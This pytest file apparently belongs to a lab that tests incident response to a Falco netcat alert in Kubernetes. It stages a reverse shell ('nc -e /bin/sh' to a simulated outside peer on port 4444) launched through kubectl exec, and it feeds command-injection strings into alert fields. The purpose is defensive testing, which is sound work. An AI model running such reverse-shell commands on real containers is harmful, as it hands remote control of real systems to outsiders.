"""Netcat Remote Code Execution in Container: a pod's nc gives a shell to somebody outside."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from tests.lab.hostile import words
from tests.lab.places.cluster import Cluster, web_pod
from tests.lab.places.internet import PEER, internet
from tests.lab.places.node import Container, Node
from tests.lab.story import Tell

RULE = "Netcat Remote Code Execution in Container"


def fields(container: Container, command: str) -> dict[str, Any]:
    """What Falco says of a nc that a web server's shell started, as www-data."""
    return {
        "evt.type": "execve",
        "proc.cmdline": command,
        "proc.exepath": "/bin/nc.traditional",
        "proc.name": "nc.traditional",
        "proc.pname": "sh",
        "proc.tty": 0,
        "user.loginuid": -1,
        "user.name": "root",
        "user.uid": 0,
        **container.fields,
    }


def test_a_shell_goes_out_of_a_pod(cluster: Cluster, tell: Tell, tmp_path: Path) -> None:
    cluster.namespace("shop")
    admin = cluster.laptop()
    admin.apply(web_pod("web-1"))
    cluster.await_pod("shop", "web-1")
    container = cluster.node.container_of("shop", "web-1")
    with internet(cluster.node) as far:
        far.listen(4444, into=tmp_path / "got", says="touch /tmp/dropped; id\n")
        nc = ["nc.traditional", "-e", "/bin/sh", PEER, "4444"]
        cluster.laptop("mallory").run(f"kubectl exec -n shop web-1 -- sh -c '{' '.join(nc)} >/dev/null 2>&1 &'")
        cluster.node.wait_until(lambda: "uid=0" in (tmp_path / "got").read_text(), "the peer has a shell")

        with tell(fields(container, " ".join(nc)), node=cluster.node, cluster=admin) as report:
            report.look("List the sockets", shows=f"{PEER}:4444")
            report.look("List the container's processes", shows=["sleep 86400", "sh"])
            report.look("Read what the pod's applications logged", status=0)
            report.look("Search the API server's audit log", shows=["mallory", "command="])
            report.look("List the files changed last", shows="tmp/dropped")
            kept = f"/root/evidence/{report.uid}"
            report.keep("Keep each process", keeps=lambda _: evidence(cluster.node, kept))
            report.contain("Take the pod out", state=lambda: labels(cluster), becomes={"quarantine": "true"})
            report.contain(
                "Freeze the container", state=lambda: status(cluster.node, container), becomes="CONTAINER_PAUSED"
            )
            report.undo(
                state=lambda: (labels(cluster), status(cluster.node, container)),
                becomes=({"app": "web"}, "CONTAINER_RUNNING"),
            )
            cluster.node.run(f"crictl rm -f {container.id}")
            report.again("List the container's processes", shows="error")


def labels(cluster: Cluster) -> Any:
    return cluster.laptop().get("pod", "-n", "shop", "web-1")["metadata"]["labels"]


def status(node: Node, container: Container) -> str:
    """Whether the container's processes run, from the freezer of its control group."""
    states = {node.state(pid) for pid in node.pids_of(container)}
    frozen = any(
        file.read_text("ascii").strip() in {"FROZEN", "1"}
        for file in node.path("/sys/fs/cgroup").glob(f"*/**/*{container.id}*/freezer.state")
    )
    return "CONTAINER_PAUSED" if frozen or states == {"D"} else "CONTAINER_RUNNING"


def evidence(node: Node, folder: str) -> dict[str, str]:
    """What was kept; the program's copy and the archive of written files must be there."""
    found = node.snapshot(folder)
    assert any(name.endswith(".exe") for name in found), found
    assert f"{folder}/written-files.tgz" in found, found
    return found


@pytest.mark.parametrize("word", words("quotes", "substitution", "newline"))
def test_a_hostile_command_line(node: Node, cluster: Cluster, tell: Tell, word: str) -> None:
    container = node.start_container()
    hostile = fields(container, f"nc -e /bin/sh {word}") | {"k8s.pod.name": None, "k8s.ns.name": None}
    with tell(hostile, node=node, cluster=cluster.laptop()) as report:
        report.everything()
    assert not node.exists("/root/owned")
